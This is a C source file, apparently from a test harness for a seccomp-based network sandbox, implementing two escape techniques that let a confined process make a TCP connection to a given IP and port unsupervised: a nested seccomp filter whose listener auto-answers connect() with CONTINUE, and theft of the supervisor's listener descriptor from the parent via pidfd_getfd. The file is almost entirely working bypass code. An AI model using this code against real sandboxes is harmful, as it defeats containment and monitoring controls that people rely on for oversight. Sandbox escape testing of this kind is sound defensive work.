/*
 * leak_seccomp — attacks on the guard's own machinery: get a seccomp
 * listener for our connect() and answer it with CONTINUE, so the kernel
 * performs the connect unsupervised.
 *   leak_seccomp nested|steal IP PORT
 *   nested  install our own filter (SECCOMP_FILTER_FLAG_NEW_LISTENER) that
 *           notifies connect: among equal actions the newest filter wins
 *   steal   take the supervisor's listener from our parent with
 *           pidfd_getfd (fds 3..255)
 * A helper thread answers every notification with CONTINUE.
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include "leak_common.h"

static int listener = -1;

static void *answer(void *arg)
{
    (void)arg;
    for (;;) {
        struct seccomp_notif n;
        memset(&n, 0, sizeof n);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &n) != 0) {
            if (errno == EINTR || errno == ENOENT)
                continue;
            return NULL;
        }
        struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
    }
}

static int nested(void)
{
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog fp = {.len = 4, .filter = f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0)
        return -errno;
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fp);
    return fd < 0 ? -errno : (int)fd;
}

static int steal(void)
{
    long pfd = syscall(SYS_pidfd_open, getppid(), 0);
    if (pfd < 0)
        return -errno;
    int last = ENOENT;
    for (int i = 3; i < 256; i++) {
        long fd = syscall(SYS_pidfd_getfd, (int)pfd, i, 0);
        if (fd < 0) {
            if (errno != EBADF)
                last = errno;
            continue;
        }
        char link[64], target[128];
        snprintf(link, sizeof link, "/proc/self/fd/%d", (int)fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n > 0) {
            target[n] = '\0';
            if (strstr(target, "seccomp"))
                return (int)fd;
        }
        close((int)fd);
    }
    return -last;
}

int main(int argc, char **argv)
{
    struct sockaddr_storage ss;
    socklen_t len;
    if (argc != 4 || leak_addr(argv[2], argv[3], &ss, &len) != 0 ||
        (strcmp(argv[1], "nested") && strcmp(argv[1], "steal"))) {
        fprintf(stderr, "usage: leak_seccomp nested|steal IP PORT\n");
        return 2;
    }
    const char *v = !strcmp(argv[1], "nested") ? "seccomp_nested" : "seccomp_steal";
    listener = !strcmp(argv[1], "nested") ? nested() : steal();
    if (listener < 0)
        return leak_fail(v, -listener);
    pthread_t t;
    if (pthread_create(&t, NULL, answer, NULL) != 0)
        return leak_fail(v, EAGAIN);
    pthread_detach(t);
    int fd = leak_bound(socket(ss.ss_family, SOCK_STREAM, 0));
    if (fd < 0)
        return leak_fail(v, errno);
    if (syscall(SYS_connect, fd, &ss, len) != 0) {
        int e = errno;
        close(fd);
        return leak_fail(v, e);
    }
    return leak_finish_tcp(v, fd);
}
